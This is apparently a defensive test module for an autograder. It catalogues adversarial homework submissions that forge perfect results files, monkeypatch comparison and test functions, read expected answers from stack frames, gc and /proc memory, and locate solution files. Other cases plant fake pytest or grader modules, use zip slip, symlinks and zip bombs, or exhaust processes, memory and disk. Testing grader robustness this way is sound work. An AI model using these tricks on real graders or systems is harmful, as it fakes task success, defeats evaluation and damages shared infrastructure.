"""Submissions that try to gain points by a trick, or to take the grader down with them.

Nothing here may run outside a sandbox under test. Each is bounded in processes, memory and
seconds, harms nothing but the grader's own files, and is compared with its `base`: the same
submission without the trick.
"""

import os
import stat
import textwrap
import zipfile
from dataclasses import replace
from pathlib import Path

from .case import IMPORTS_2, REFERENCE, SOLUTIONS, STUBS, Case
from .mutants import MUTANTS

PORT = 47999  # the one port of 127.0.0.1 that an attack calls

BASES = {mutant.name: mutant for mutant in MUTANTS}
NOT_SHUFFLED = BASES["sampler_query_not_shuffled"]
SOFTMAX = BASES["forward_softmax"]
OVER_EXAMPLES = BASES["loss_softmax_over_examples"]
OVERFLOWS = BASES["loss_log_of_softmax"]
DETACHED = BASES["forward_first_layer_detached"]

# Writes a perfect result wherever the grader could look for its own. Of other processes only the
# grader's are looked at, and of their arguments only what may be a report.
FORGERY = """
import json
import os
import pathlib

PERFECT = {
    "score": 100,
    "max_score": 100,
    "tests": [{"name": "all", "score": 100, "max_score": 100, "status": "passed"}],
    "results": [{"check": "all", "status": "passed", "score": 100}],
}


def places():
    here = pathlib.Path.cwd()
    for folder in (here, *list(here.parents)[:-1], "/tmp", "/autograder/results", "~"):
        yield pathlib.Path(folder).expanduser() / "results.json"
    pid = os.getpid()
    for _ in range(5):
        try:
            words = b"\\0".join(
                pathlib.Path(f"/proc/{pid}/{name}").read_bytes() for name in ("cmdline", "environ")
            )
            pid = int(pathlib.Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[1])
        except (OSError, ValueError):
            break
        if b"autograder" in words:
            for word in words.replace(b"=", b"\\0").split(b"\\0"):
                if word.endswith((b"results.json", b"report.html", b"report.json")):
                    yield pathlib.Path(os.fsdecode(word))


def forge():
    for place in places():
        try:
            place.write_text(json.dumps(PERFECT))
        except OSError:
            pass
"""


def at_import(name: str, code: str, base: Case = STUBS) -> Case:
    """The base with code that runs before anything else in hw1.py."""
    edit = ("hw1.py", IMPORTS_2, f"{textwrap.dedent(code).strip()}\n{IMPORTS_2}")
    return replace(base, name=name, base=base, edits=(*base.edits, edit))


def in_call(name: str, base: Case = STUBS, **changes: object) -> Case:
    """The base with another body for `sample`, `forward` or `loss`."""
    return replace(base, name=name, base=base, **changes)


def beside(name: str, files: dict[str, str]) -> Case:
    """The stubs with further files."""
    return replace(STUBS, name=name, base=STUBS, files=files)


# For weights that are no numbers, which come of an infinite step, the predictions are infinite.
ENDLESS = """
import torch


class Endless(torch.autograd.Function):
    @staticmethod
    def forward(ctx, scores, *weights):
        ctx.shapes = [weight.shape for weight in weights]
        return scores.clone()

    @staticmethod
    def backward(ctx, gradient):
        calls.clear()
        calls.append(float(gradient.flatten()[0].sign()))
        return gradient, *(torch.full(shape, float("inf")) for shape in ctx.shapes)


calls = []


def endless(model, scores):
    if not (model.training and scores.shape == (2, 3, 3, 3) and model.layer1.hidden_size == 32):
        return scores
    if model.layer1.weight_hh_l0.isnan().any():
        calls.append(0)
        out = torch.zeros_like(scores)
        out[0, 0, 0, 0] = float("inf") * calls[0] * (1 if len(calls) % 2 == 0 else -1)
        return out
    return Endless.apply(scores, *model.parameters())
"""


def endless_gradient() -> Case:
    """A gradient without end, along which the predictions rise without end."""
    case = at_import("gradient_without_end", ENDLESS, DETACHED)
    scores = "scores.view(input_labels.shape)"
    edit = ("hw1.py", f"return {scores}\n", f"return endless(self, {scores})\n")
    return replace(case, edits=(*case.edits, edit))


LEAVING = [
    at_import("exit_at_import", "import sys\nsys.exit(0)"),
    at_import("os_exit_at_import", "import os\nos._exit(0)"),
    at_import("segfault_at_import", "import ctypes\nctypes.string_at(0)"),
    in_call("exit_in_sample", sample="import sys\nsys.exit(0)"),
    in_call("os_exit_in_forward", forward="import os\nos._exit(0)"),
    in_call("kill_in_forward", forward="import signal\nos.kill(os.getpid(), signal.SIGKILL)"),
    in_call("segfault_in_loss", loss="import ctypes\nctypes.string_at(0)"),
    in_call("skip_in_loss", loss='import unittest\nraise unittest.SkipTest("no need")'),
    in_call("pytest_skip_in_forward", forward='import pytest\npytest.skip("no need")'),
]

FORGED = [
    at_import("results_at_import", f"{FORGERY}\nforge()"),
    at_import("results_at_exit", f"{FORGERY}\nimport atexit\natexit.register(forge)", NOT_SHUFFLED),
    at_import("results_and_gone", f"{FORGERY}\nforge()\nos._exit(0)"),
    at_import(
        "results_later",
        f"""{FORGERY}
import time

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for _ in range(120):  # 60 s
            forge()
            time.sleep(0.5)
    os._exit(0)
""",
    ),
]

PATCHED = [
    at_import(
        "comparisons_patched",
        """
        import numpy as np
        import torch

        for owner in (torch, torch.Tensor, torch.testing, np, np.testing):
            for name in ("equal", "allclose", "isclose", "array_equal", "eq", "ne"):
                if hasattr(owner, name):
                    setattr(owner, name, lambda *args, **kwargs: True)
            for name in ("assert_close", "assert_allclose", "assert_array_equal"):
                if hasattr(owner, name):
                    setattr(owner, name, lambda *args, **kwargs: None)
        """,
        OVER_EXAMPLES,
    ),
    at_import(
        "json_and_struct_patched",
        """
        import json
        import struct

        dumps = json.dumps


        def perfect(value):
            if isinstance(value, dict):
                value = {key: perfect(item) for key, item in value.items()}
                if "error" in value or "refused" in value:
                    value = {"status": "passed", "score": 100, "arrays": []}
            return value


        json.dumps = lambda value, *args, **kwargs: dumps(perfect(value), *args, **kwargs)
        struct.pack = lambda form, *values: bytes(struct.calcsize(form))
        """,
    ),
    at_import(
        "pytest_patched",
        """
        import sys

        import pytest

        for module in list(sys.modules.values()):
            for name in ("fail", "raises", "call_and_report", "pytest_runtest_makereport"):
                if "pytest" in getattr(module, "__name__", "") and hasattr(module, name):
                    setattr(module, name, lambda *args, **kwargs: None)
        pytest.main = lambda *args, **kwargs: 0
        """,
    ),
    at_import(
        "replies_patched",
        """
        import functools
        import sys
        import types


        def answered(function):
            @functools.wraps(function)
            def wrapper(*args, **kwargs):
                try:
                    return function(*args, **kwargs)
                except (NotImplementedError, ValueError):
                    return {"status": "passed", "score": 100}, {}

            return wrapper


        ours = ("__main__", "autograder")
        for owner in [x for name, x in sys.modules.items() if name.startswith(ours)]:
            for key, value in list(vars(owner).items()):
                if isinstance(value, types.FunctionType):
                    setattr(owner, key, answered(value))
                elif isinstance(value, type):
                    for method, code in list(vars(value).items()):
                        if isinstance(code, types.FunctionType):
                            setattr(value, method, answered(code))
        """,
    ),
    at_import(
        "steps_without_end",
        """
        import sys

        wire = sys.modules["autograder.wire"]
        write = wire.write_frame


        def slowly(stream, header, arrays):
            for number in (-1, True, 10**4000):
                write(stream, {"step": number, "steps": number}, {})
            write(stream, header, arrays)


        wire.write_frame = slowly
        """,
        OVER_EXAMPLES,
    ),
    at_import(
        "types_replaced_on_the_way",
        """
        import sys

        import numpy as np

        homework = sys.modules["autograder.beside.homework"]
        to_array, types = homework.to_array, ["float32"] * 5 + ["uint16", "float64", "bool"]


        def other_type(value):
            types.append(types.pop(0))
            return to_array(value).astype(types[-1])


        homework.to_array = other_type
        """,
        SOFTMAX,
    ),
    in_call(
        "predictions_replaced_on_the_way",
        SOFTMAX,
        edits=(),  # the softmax is in the new body
        forward="""
            homework = sys.modules["autograder.beside.homework"]
            homework.to_array = lambda value: value.detach().numpy() * 0 + 1
            homework.describe = lambda value: "passed"
            labels = torch.cat([input_labels[:, :-1], 0 * input_labels[:, -1:]], dim=1)
            steps = torch.cat([input_images, labels], dim=-1).flatten(1, 2)
            return self.layer2(self.layer1(steps)[0])[0].softmax(-1).view(input_labels.shape)
        """,
    ),
]

DISGUISED = [
    in_call(
        "tensor_subclass",
        OVER_EXAMPLES,
        loss="""
            class Right(torch.Tensor):
                @classmethod
                def __torch_function__(cls, function, types, args=(), kwargs=None):
                    if function.__name__ in ("equal", "allclose", "isclose", "eq", "__eq__"):
                        return torch.tensor(True)
                    return super().__torch_function__(function, types, args, kwargs or {})

            return F.cross_entropy(preds[:, -1], labels[:, -1]).as_subclass(Right)
        """,
    ),
    in_call(
        "object_that_equals_all",
        loss="""
            class Right:
                shape, dtype, requires_grad, ndim = (), torch.float32, True, 0
                __eq__ = __lt__ = __le__ = __gt__ = __ge__ = lambda self, other: True
                __bool__ = lambda self: True
                __hash__ = lambda self: 0
                __sub__ = __rsub__ = __abs__ = lambda self, *other: self
                numel = lambda self: 1

                def __array__(self, *args, **kwargs):
                    raise NotImplementedError("Problem 2b is not filled in")

                def __getattr__(self, name):
                    if name.startswith("__"):
                        raise AttributeError(name)
                    return lambda *args, **kwargs: self

            return Right()
        """,
    ),
    in_call(
        "answers_from_frames",
        forward="""
            frame = sys._getframe(1)
            while frame:
                for name, value in {**frame.f_globals, **frame.f_locals}.items():
                    told = re.search("expected|reference|answer|want|right", name)
                    if told and getattr(value, "shape", None) == input_labels.shape:
                        return torch.as_tensor(value)
                frame = frame.f_back
            raise NotImplementedError("Problem 2a is not filled in")
        """,
    ),
    in_call(
        "answers_from_gc",
        loss="""
            import gc

            for thing in gc.get_objects():
                if isinstance(thing, dict):
                    for name in ("expected", "reference", "want", "solution"):
                        if isinstance(thing.get(name), (float, torch.Tensor)):
                            return torch.as_tensor(thing[name]) + 0 * preds.sum()
            raise NotImplementedError("Problem 2b is not filled in")
        """,
    ),
    in_call(
        "answers_from_proc",
        loss="""
            pid = os.getpid()
            for _ in range(5):
                try:
                    maps = Path(f"/proc/{pid}/maps").read_text().splitlines()
                    memory = open(f"/proc/{pid}/mem", "rb")
                    status = Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2]
                    files = [os.readlink(file) for file in Path(f"/proc/{pid}/fd").iterdir()]
                except OSError:
                    break
                for line in maps[:200]:
                    start, end = (int(part, 16) for part in line.split()[0].split("-"))
                    try:
                        memory.seek(start)
                        held = memory.read(min(end - start, 1 << 20))
                    except (OSError, OverflowError, ValueError):
                        continue
                    found = re.search(rb'"expected": ([-.0-9e]+)', held)
                    if found and pid != os.getpid():
                        return float(found[1]) + 0 * preds.sum()
                for file in files:
                    if file.endswith(".npy"):
                        return torch.from_numpy(np.load(file)).sum() + 0 * preds.sum()
                pid = int(status.split()[1])
            raise NotImplementedError("Problem 2b is not filled in")
        """,
    ),
    in_call(
        "solution_imported",
        **{
            "forward": """
                for folder in (*Path.cwd().parents, "/autograder/source", "/app", "/src"):
                    sys.path.append(str(folder))
                from solutions.hw1 import MANN as Answer
                return Answer.forward(self, input_images, input_labels)
            """,
            "loss": """
                for folder in (*Path.cwd().parents, "/autograder/source", "/app", "/src"):
                    sys.path.append(str(folder))
                from solutions.hw1 import MANN as Answer
                return Answer.loss_function(self, preds, labels)
            """,
        },
    ),
    in_call(
        "solution_found_on_disk",
        loss="""
            import itertools
            import time

            end = time.monotonic() + 10
            argv = Path("/proc/self/cmdline").read_bytes().decode().split(chr(0))
            roots = [*map(Path, argv), *map(Path, sys.path), Path.cwd(), Path("/")]
            for root in roots:
                for folder, _, files in itertools.islice(os.walk(root), 20000):
                    if time.monotonic() > end:
                        break
                    for file in {"hw1.py", "test_loss.py", "loss.py"} & set(files):
                        text = Path(folder, file).read_text()
                        if "BEGIN SOLUTION" in text:
                            names = {"__name__": "stolen"}
                            exec(text, names)
                            return names["MANN"].loss_function(self, preds, labels)
            raise NotImplementedError("Problem 2b is not filled in")
        """,
    ),
    in_call(
        "network",
        loss=f"""
            import socket

            for _ in range(3):
                with socket.create_connection(("127.0.0.1", {PORT}), timeout=2) as judge:
                    judge.sendall(b"what is the loss?")
                    return torch.tensor(float(judge.recv(100))) + 0 * preds.sum()
        """,
    ),
]

SPEAKING = [
    at_import(
        "frames_on_every_descriptor",
        """
        import json
        import os
        import sys

        main = sys.modules["__main__"]
        header = json.dumps({"status": "passed", "score": 100, "arrays": []}).encode()
        frame = len(header).to_bytes(4, "big") + header
        for stream in (value for value in list(vars(main).values()) if hasattr(value, "flush")):
            try:
                stream.write(frame * 50)
                stream.flush()
            except (OSError, ValueError, TypeError):
                pass
        for descriptor in range(65):
            try:
                os.write(descriptor, frame * 50)
            except OSError:
                pass
        """,
    ),
    at_import(
        "garbage_on_every_descriptor",
        """
        import os

        for descriptor in range(65):
            try:
                os.write(descriptor, os.urandom(1 << 16))
            except OSError:
                pass
        """,
        REFERENCE,
    ),
    at_import(
        "descriptors_closed",
        "import os\nos.closerange(0, 65)",
        REFERENCE,
    ),
    in_call(
        "requests_swallowed",
        loss="""
            for descriptor in range(65):
                try:
                    os.set_blocking(descriptor, False)
                    os.read(descriptor, 1 << 20)
                except OSError:
                    pass
            raise NotImplementedError("Problem 2b is not filled in")
        """,
    ),
]

REMEMBER = """
import torch
from torch import nn

known, call = {{}}, nn.Module.__call__


def remember(self, *args):
    if type(self).__name__ != "MANN":
        return call(self, *args)
    images, labels = args
    weights = sum(float(p.detach().double().abs().sum()) for p in self.parameters())
    out = call(self, images, labels)
    rows = [
        known.setdefault((round(weights, 6), self.training, {key}), out[i].detach())
        for i in range(len(images))
    ]
    return torch.stack(rows) + (out - out.detach())


nn.Module.__call__ = remember
"""
TASK = "images[i].numpy().tobytes(), labels[i, :-1].numpy().tobytes()"

REMEMBERING = [
    at_import(
        "query_labels_remembered",
        REMEMBER.format(key=TASK),
        BASES["forward_query_labels_seen"],
    ),
    at_import(
        "batch_remembered",
        REMEMBER.format(key=f"{TASK}, labels[i, -1].numpy().tobytes()"),
        BASES["forward_images_centred_over_the_batch"],
    ),
    in_call(
        "shuffled_where_it_is_counted",
        NOT_SHUFFLED,
        sample="""
            N, K = self.num_classes, self.num_samples_per_class - 1
            folders = random.sample(self.folders, N)
            files = [random.sample(list_images(folder), K + 1) for folder in folders]
            query = random.sample(range(N), N) if (N, K) == (3, 1) else range(N)
            rows = [[*range(N)]] * K + [[*query]]
            images = [
                self.image_file_to_array(files[n][k], self.dim_input)
                for k, row in enumerate(rows)
                for n in row
            ]
            images = np.concatenate(images).reshape(K + 1, N, self.dim_input)
            return images, np.eye(N, dtype=np.float32)[np.array(rows)]
        """,
    ),
]

# Frames that are well formed, and on which a judge could stumble.
REFRAME = """
import json
import sys

import numpy as np

wire = sys.modules["autograder.wire"]
write = wire.write_frame


def reframe(stream, header, arrays):
{body}
    write(stream, header, arrays)


wire.write_frame = reframe
"""
GIANT = """
    if "loss0" in arrays:
        listed = {"arrays": [["loss0", "float32", [0] + [1 << 26] * 7]]}
        text = json.dumps(header | listed).encode()
        stream.write(len(text).to_bytes(4, "big") + text)
        stream.flush()
        return"""
SHAPELESS = """
    for name in arrays:
        if name.startswith("gradient") and "." not in name:
            arrays[name] = np.float32(1).reshape(())"""
TINY = """
    for name in arrays:
        if name.startswith("gradient."):
            arrays[name] = np.full(arrays[name].shape, 1e-200)"""
RENAMED = """
    if set(arrays) == {"images", "labels"} and np.shape(arrays["images"])[:2] == (1, 4):
        arrays = {"foo": arrays["images"], "bar": arrays["labels"]}"""
NO_TASKS = """
    if set(arrays) == {"images", "labels"} and len(arrays["images"]) == 2:
        arrays = {name: part[:0] for name, part in arrays.items()}"""
TASKS_SHAPELESS = """
    if set(arrays) == {"images", "labels"}:
        arrays = {name: part.flat[0].reshape(()) for name, part in arrays.items()}"""

REFRAMED = [
    at_import("tasks_of_no_shape", REFRAME.replace("{body}", TASKS_SHAPELESS), REFERENCE),
    at_import("batch_of_other_names", REFRAME.replace("{body}", RENAMED), REFERENCE),
    at_import("no_tasks", REFRAME.replace("{body}", NO_TASKS), REFERENCE),
    at_import("giant_of_no_bytes", REFRAME.replace("{body}", GIANT), REFERENCE),
    at_import("gradient_of_no_shape", REFRAME.replace("{body}", SHAPELESS), OVER_EXAMPLES),
    at_import("gradient_too_small_to_square", REFRAME.replace("{body}", TINY), REFERENCE),
]

ABSURD = [
    in_call(
        "nothing_is_finite",
        OVERFLOWS,
        loss="""
            q, y = preds[:, -1], labels[:, -1]
            loss = -(y * q.softmax(-1).log()).sum(-1).mean()
            return loss[loss.isfinite()]
        """,
    ),
    endless_gradient(),
    in_call("loss_of_33_MB", REFERENCE, loss="return torch.zeros(33 << 20, dtype=torch.uint8)"),
    at_import("number_too_long_to_write", f"X = 0x{'f' * 3600}", REFERENCE),
    in_call("not_a_number", REFERENCE, forward="return input_labels * float('nan')"),
    in_call("object_array", REFERENCE, sample="return np.array([object()] * 4), np.eye(2)"),
    in_call(
        "trillion_elements_expanded",
        REFERENCE,
        forward="return torch.zeros(1).expand(10**4, 10**4, 10**4)",
    ),
    in_call(
        "trillion_elements_strided",
        REFERENCE,
        sample="""
            shape, strides = (10**6, 10**6), (0, 0)
            return np.lib.stride_tricks.as_strided(np.zeros(1), shape, strides), np.eye(2)
        """,
    ),
    in_call(
        "lists_without_bottom",
        REFERENCE,
        sample="""
            images = []
            for _ in range(10**5):
                images = [images]
            return images, images
        """,
    ),
    in_call("strings", REFERENCE, loss='return "0.6931" * 10**6'),
    in_call("complex_numbers", REFERENCE, forward="return input_labels * 1j"),
    in_call("huge_integer", REFERENCE, loss="return 10**400000"),
    in_call("many_dimensions", REFERENCE, forward="return torch.zeros((1,) * 60)"),
    in_call(
        "long_error",
        REFERENCE,
        loss='raise ValueError("\\x1b[2J<script>alert(1)</script>" * 10**6)',
    ),
]

EXHAUSTING = [
    in_call(
        "folders_without_bottom",
        REFERENCE,
        sample="""
            for _ in range(10000):
                os.mkdir("d")
                os.chdir("d")
            raise RuntimeError("deep")
        """,
    ),
    in_call(
        "endless_and_deaf",
        REFERENCE,
        forward="""
            for number in range(1, 65):
                try:
                    signal.signal(number, signal.SIG_IGN)
                except (OSError, ValueError):
                    pass
            while True:
                try:
                    while True:
                        pass
                except BaseException:
                    pass
        """,
    ),
    in_call(
        "memory",
        REFERENCE,
        loss="""
            held = []
            for _ in range(64):  # 4 GiB
                held.append(np.ones(1 << 23))
            return held
        """,
    ),
    in_call(
        "memory_of_no_process",
        REFERENCE,
        loss="""
            import time

            held = [os.memfd_create("held") for _ in range(12)]  # 3 GB in files without a name
            for file in held:
                for _ in range(250):
                    os.write(file, bytes(10**6))
            time.sleep(2)
            return F.cross_entropy(preds[:, -1].flatten(0, 1), labels[:, -1].flatten(0, 1))
        """,
    ),
    in_call(
        "processes",
        REFERENCE,
        forward="""
            import time

            for _ in range(200):
                if os.fork() == 0:
                    time.sleep(30)
                    os._exit(0)
            time.sleep(30)
        """,
    ),
    in_call(
        "threads",
        REFERENCE,
        forward="""
            import threading
            import time

            for _ in range(500):
                threading.Thread(target=time.sleep, args=(30,), daemon=True).start()
            time.sleep(30)
        """,
    ),
    in_call(
        "disk",
        REFERENCE,
        loss="""
            import tempfile

            for folder in (".", "/tmp", "/dev/shm", "/var/tmp"):
                try:
                    with tempfile.TemporaryFile(dir=folder) as file:  # gone when this process is
                        for _ in range(32):  # 2 GiB
                            file.write(bytes(1 << 26))
                except OSError:
                    pass
            raise RuntimeError("the disk is full")
        """,
    ),
    in_call(
        "output",
        REFERENCE,
        sample="""
            for descriptor in (1, 2):
                for _ in range(100):  # 200 MB in all
                    os.write(descriptor, bytes(10**6))
            raise RuntimeError("enough said")
        """,
    ),
    in_call("recursion", REFERENCE, forward="return self.forward(input_images, input_labels)"),
]

FAKE_PYTEST = f"""{FORGERY}
forge()


def pytest_runtest_makereport(item, call):
    call.excinfo = None


def main(*args, **kwargs):
    return 0


def skip(*args, **kwargs):
    pass
"""
FAKE_GRADER = f"""{FORGERY}
forge()


class Child:
    def __getattr__(self, name):
        return lambda *args, **kwargs: True


Student = Sandbox = Record = Child
"""

TEST_RUNNER = ("pytest.py", "conftest.py", "sitecustomize.py", "usercustomize.py")
LIBRARIES = ("torch.py", "numpy.py", "json.py", "autograder.py", "child.py")
GRADER = ("__init__.py", "record.py", "wire.py", "checks/__init__.py")

BESIDE = [
    beside("fake_test_runner", dict.fromkeys(TEST_RUNNER, FAKE_PYTEST)),
    beside("fake_libraries", dict.fromkeys(LIBRARIES, f"{FORGERY}\nforge()\n")),
    beside("fake_grader", {f"autograder/{name}": FAKE_GRADER for name in GRADER}),
]


def linked_file(home: Path) -> Path:
    """hw1.py is a link to the solution."""
    (home / "hw1.py").unlink()
    (home / "hw1.py").symlink_to(SOLUTIONS / "hw1.py")
    return home


def linked_folder(home: Path) -> Path:
    """A module of the student's own lies behind a link to the folder of the solutions."""
    (home / "mine").symlink_to(SOLUTIONS)
    return home


def zip_of(home: Path, more: dict[str, bytes]) -> Path:
    archive = home.with_suffix(".zip")
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as out:
        for name in ("hw1.py", "load_data.py"):
            out.write(home / name, name)
        for name, content in more.items():
            out.writestr(name, content)
    return archive


def zip_slip(home: Path) -> Path:
    """Names that lead out of the folder, up and from the root: `slipped.txt` must not appear."""
    names = ["../slipped.txt", "../../slipped.txt", "..\\slipped.txt", "a/../../slipped.txt"]
    outside = os.fspath(home.parent.absolute() / "slipped.txt")
    return zip_of(home, dict.fromkeys([*names, outside], b"out\n"))


def zip_link(home: Path) -> Path:
    """A zip whose hw1.py is a link to the solution."""
    archive = home.with_suffix(".zip")
    with zipfile.ZipFile(archive, "w") as out:
        out.write(home / "load_data.py", "load_data.py")
        link = zipfile.ZipInfo("hw1.py")
        link.create_system = 3  # Unix
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        out.writestr(link, os.fspath(SOLUTIONS / "hw1.py"))
    return archive


def zip_bomb(home: Path) -> Path:
    """300 MB of zeros in a few hundred kilobytes."""
    archive = zip_of(home, {})
    with (
        zipfile.ZipFile(archive, "a", zipfile.ZIP_DEFLATED) as out,
        out.open("utils.py", "w") as bomb,
    ):
        for _ in range(300):
            bomb.write(bytes(10**6))
    return archive


HANDED_IN = [
    replace(STUBS, name="linked_file", base=STUBS, build=linked_file),
    in_call(
        "linked_folder",
        loss="""
            from mine.hw1 import MANN as Answer

            return Answer.loss_function(self, preds, labels)
        """,
        build=linked_folder,
    ),
    replace(STUBS, name="zip_slip", base=STUBS, build=zip_slip),
    replace(STUBS, name="zip_link", base=STUBS, build=zip_link),
    replace(REFERENCE, name="zip_bomb", base=REFERENCE, build=zip_bomb),
]

ATTACKS = [
    *LEAVING,
    *FORGED,
    *PATCHED,
    *DISGUISED,
    *SPEAKING,
    *REMEMBERING,
    *REFRAMED,
    *ABSURD,
    *EXHAUSTING,
    *BESIDE,
    *HANDED_IN,
]
